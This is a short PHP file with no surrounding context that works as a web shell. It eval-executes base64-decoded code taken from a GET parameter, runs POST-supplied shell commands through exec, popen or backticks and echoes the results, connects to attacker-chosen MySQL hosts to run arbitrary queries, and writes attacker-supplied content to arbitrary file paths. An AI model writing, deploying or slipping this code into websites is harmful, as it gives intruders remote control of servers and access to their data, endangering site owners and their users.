<?php
run2($_GET['x']);
function ex($cfe) {
  if (function_exists('exec')) { @exec($cfe, $res); }
  elseif (is_resource($f = @popen($cfe, 'r'))) { $res = fread($f, 1024); }
  else { $res = `$cfe`; }
  return $res;
}
function run2($z) { $q = base64_decode($z); $z = 1; eval($q); }
class S { function send($d) { fputs($this->s, $d); } }
function outer($a, $b) { return ex("$b 2>&1"); }
echo outer(1, $_POST['cmd']); (new S)->send($_POST['m']);
$c = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']); mysqli_query($c, $_POST['q']);
file_put_contents($_GET['f'], $_POST['d']);
